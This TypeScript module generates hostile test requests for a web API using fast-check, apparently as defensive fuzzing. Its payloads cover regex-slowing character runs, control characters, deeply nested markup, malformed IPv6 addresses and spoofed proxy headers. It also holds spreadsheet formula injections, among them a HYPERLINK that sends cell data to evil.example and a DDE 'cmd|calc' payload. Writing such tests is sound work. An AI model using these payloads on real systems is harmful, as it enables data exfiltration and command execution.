import fc from 'fast-check';
import { type OpenApi, operationsOf, type Schema, valid } from './api-requests.ts';
import type { Known } from './values.ts';
import { type WireRequest, write } from './wire-request.ts';

/**
 * Payloads that attackers found. Each request is valid except for one text field, which contains a text of a family.
 * The label names the family.
 */

const LENGTHS = [60, 190, 490, 1990, 3990];
const filled = (unit: string, length: number) =>
  unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
const long = (units: readonly string[]) =>
  fc.tuple(fc.constantFrom(...units), fc.constantFrom(...LENGTHS)).map(([unit, n]) => filled(unit, n));

/** A customer of two thousand equal characters, to slow down a word search. */
export const AT_SIGNS = '@'.repeat(2000);
const MARKS = ['@', '.', '-', "'", '"', '#', '/', '_', '(', 'a@', 'a.', 'a,', '@ ', '$1', '😀'];

/** Some languages have no spaces, so a word counter sees a single word. */
export const NO_BLANKS = [
  '我帮助忙碌的父母用很少的钱做出健康的晚餐',
  'ผู้ปกครองที่ต้องการอาหารเย็นง่ายๆในวันธรรมดา',
  '忙しい家族のための簡単な夕食の作り方を教えます',
  'ຂ້ອຍສອນການເຮັດອາຫານ',
  'supercalifragilistic',
  'ab',
];

const CONTROLS = fc.oneof(
  fc.constantFrom(0, 0, 0, 1, 7, 8, 0x0b, 0x0c, 0x1b, 0x1f, 0x7f, 0x85, 0x9f, 0x2028, 0xfffe, 0xffff),
  fc.integer({ min: 0, max: 0x9f }),
);

/** From ordinary nesting to more than any person writes. */
const DEPTHS = [60, 3000, 60_000];
const NESTED = ['<b>', '<ul><li>', '<blockquote>', '<p><a href="/x">', '<b', '<!--', '&lt;', '<svg><style>'];

export const FORMULAS = [
  '=1+1',
  'x;=HYPERLINK("http://evil.example/?"&A1)',
  'x;+1;-1;@SUM(A1)',
  'x; =1',
  'x|=1',
  'x,"=1"',
  'x;"=1"',
  "x;'=1",
  '＝1+1;＋1',
  ';;;=cmd|calc!A0',
];

/** A text of the family, based on one that fits the field. */
const FAMILIES: Record<string, (fit: string) => fc.Arbitrary<string>> = {
  'one sign again and again': () => fc.oneof(fc.constant(AT_SIGNS), long(MARKS)),
  'no blanks': () => long(NO_BLANKS),
  'control characters': (fit) =>
    fc
      .tuple(CONTROLS, fc.nat({ max: fit.length }))
      .map(([code, at]) => fit.slice(0, at) + String.fromCharCode(code) + fit.slice(at)),
  'nested markup': () =>
    fc
      .tuple(fc.constantFrom(...NESTED), fc.constantFrom(...DEPTHS))
      .map(([tag, depth]) => `${tag.repeat(Math.min(depth, Math.floor(390_000 / tag.length)))}deep`),
  formulas: () => fc.constantFrom(...FORMULAS),
};

const group = fc.integer({ min: 0, max: 0xffff }).map((n) => n.toString(16));
const ADDRESSES = fc.oneof(
  fc.array(group, { minLength: 8, maxLength: 8 }).map((groups) => groups.join(':')),
  fc.tuple(group, group).map(([a, b]) => `2001:db8:${a}::${b}`),
  fc.constantFrom(
    ...['::', '::1', '::ffff:1.2.3.4', '::ffff:102:304', 'fe80::1%eth0', 'fe80::1%25lo', '2001:db8::/32'],
    ...[
      '[2001:db8::1]',
      '[2001:db8::1]:443',
      '"[2001:db8::1]"',
      '1::2::3',
      ':::',
      'g::1',
      '1:2:3:4:5:6:7:8:9',
    ],
    ...[
      '::1.2.3.4',
      '64:ff9b::1.2.3.4',
      '2001:DB8::A',
      '1:'.repeat(400),
      '::ffff:999.1.1.1',
      '0x7f.1',
      '127.1',
    ],
  ),
);
const FROM = fc
  .array(ADDRESSES, { minLength: 1, maxLength: 4 })
  .map((list) => [`X-Forwarded-For: ${list.join(', ')}`, `Forwarded: for="[${list[0]}]";proto=https`]);
const ADDRESS_FAMILY = 'IPv6 addresses';

/** Headers of proxies on the same machine. None may make a remote request count as local. */
export const PASSED_ON = 'passed on by a proxy';
const PROXIED = [
  'X-Real-IP: 203.0.113.7',
  'Via: 1.1 proxy',
  'Forwarded: for=203.0.113.7',
  'X-Forwarded-For: 127.0.0.1',
  'X-Forwarded-Host: hooks.example',
  'X-Forwarded-Proto: https',
];

export const FAMILY_NAMES = [...Object.keys(FAMILIES), ADDRESS_FAMILY, PASSED_ON];

type Place = { path: string; method: string; schema: Schema | undefined; field: string; inQuery: boolean };

/** Every text of a call, in its body or its query. */
function textPlaces(document: OpenApi): Place[] {
  return operationsOf(document).flatMap(({ path, method, operation }) => {
    const schema = operation.requestBody?.content['application/json']?.schema;
    const isText = ({ type, items, enum: few }: Schema) =>
      !few && ([type].flat().some((one) => one === 'string') || items?.type === 'string');
    const fields = Object.entries(schema?.properties ?? {}).filter(([, of]) => isText(of));
    const query = (operation.parameters ?? []).filter((one) => one.in === 'query' && isText(one.schema));
    const common = { path, method, schema };
    return [
      ...fields.map(([field]) => ({ ...common, field, inQuery: false })),
      ...query.map(({ name }) => ({ ...common, field: name, inQuery: true })),
    ];
  });
}

function cookieFor(path: string, known: Known): fc.Arbitrary<string> {
  const { user, admin, spare } = known.cookies;
  if (/change-password|account\/delete/.test(path)) return fc.constantFrom(...spare);
  return /^\/api\/(admin|blog)\b/.test(path) ? fc.constant(admin) : fc.constantFrom(...user);
}

const put = (old: unknown, text: string) => (Array.isArray(old) ? [text, 'ordinary'] : text);
const fitOf = (old: unknown) => String(Array.isArray(old) ? (old[0] ?? 'a') : (old ?? 'a'));

type Attack = [path: string, body: Record<string, unknown>, family: string];

/** Payloads that once caused a failure. Each run sends them first. */
export function knownAttacks({ cookies }: Known): WireRequest[] {
  const post = { title: 'A post', excerpt: 'Short.', content: '<p>Hello</p>', status: 'published' };
  const marked = (name: string) => ({ ...post, [name]: `a\u0000b` });
  const deep = `${'<b>'.repeat(60_000)}deep`;
  const customer = { business_description: 'I coach busy families', ideal_customer: AT_SIGNS };
  const attacks: Attack[] = [
    ['/api/user/business-context', customer, 'one sign again and again'],
    ['/api/hooks/generate', { topic: '@'.repeat(490), point: '@'.repeat(190) }, 'one sign again and again'],
    ['/api/hooks/generate', { topic: filled(NO_BLANKS[0] ?? '', 490) }, 'no blanks'],
    ['/api/hooks/generate', { topic: filled(NO_BLANKS[1] ?? '', 490) }, 'no blanks'],
    ['/api/update-social-handles', { first_name: FORMULAS[1] }, 'formulas'],
    ['/api/blog/posts', { ...post, tags: ['a\u0000b'] }, 'control characters'],
    ['/api/blog/posts', { ...post, tags: ['a\u000bb', '\uffff'] }, 'control characters'],
    ['/api/blog/posts', marked('category_slug'), 'control characters'],
    ['/api/blog/posts', marked('title'), 'control characters'],
    ['/api/blog/posts', marked('content'), 'control characters'],
    ['/api/blog/posts', { ...post, content: '<p>&#1;&#11;&#xFFFF;\ufffe</p>' }, 'control characters'],
    ['/api/blog/posts', { ...post, content: deep }, 'nested markup'],
    ['/api/blog/posts/preview', { ...post, theme: 'default', tags: [], content: deep }, 'nested markup'],
  ];
  const numbers = { path: '/metrics', method: 'GET', cookie: '', body: undefined, family: PASSED_ON };
  return [
    ...attacks.map(([path, body, family]) => {
      const cookie = path.startsWith('/api/blog') ? cookies.admin : (cookies.user[0] ?? '');
      return familyRequest({ path, method: 'POST', cookie, body, family }, 'known');
    }),
    ...PROXIED.map((header) => familyRequest({ ...numbers, headers: [header] }, 'known')),
  ];
}

type Sent = {
  path: string;
  method: string;
  cookie: string;
  body: unknown;
  family: string;
  headers?: string[];
};

function familyRequest(
  { path, method, cookie, body, family, headers = [] }: Sent,
  field: string,
): WireRequest {
  const bytes = body === undefined ? Buffer.alloc(0) : Buffer.from(JSON.stringify(body));
  const parts = { method, target: path, cookie, contentType: 'application/json', headers, chunked: false };
  const label = `${method} ${path.split('?')[0]}, ${field}: ${family}`;
  return { ...write({ ...parts, body: bytes }, label), family };
}

/** Every text of every call with every family, and calls from many IPv6 addresses. */
export function familyRequests(document: OpenApi, known: Known): fc.Arbitrary<WireRequest> {
  const place = fc.constantFrom(...textPlaces(document));
  const family = fc.constantFrom(...Object.entries(FAMILIES), null);
  return fc.tuple(place, family).chain(([{ path, method, schema, field, inQuery }, chosen]) => {
    const right = schema ? valid(schema, 'body', known) : fc.constant(undefined);
    const [name, texts] = chosen ?? [ADDRESS_FAMILY, (fit: string) => fc.constant(fit)];
    return fc.tuple(right, cookieFor(path, known), FROM).chain(([value, cookie, from]) => {
      const fields = value as Record<string, unknown> | undefined;
      return texts(fitOf(fields?.[field])).map((text) => {
        const body = fields && !inQuery ? { ...fields, [field]: put(fields[field], text) } : fields;
        // The maximum length of a request line.
        const query = inQuery ? `?${field}=${encodeURIComponent(text.toWellFormed()).slice(0, 6000)}` : '';
        const address = path.replaceAll(/\{\w+\}/g, known.ids[0] ?? '1') + query;
        const headers = chosen ? [] : from;
        return familyRequest({ path: address, method, cookie, body, family: name, headers }, field);
      });
    });
  });
}
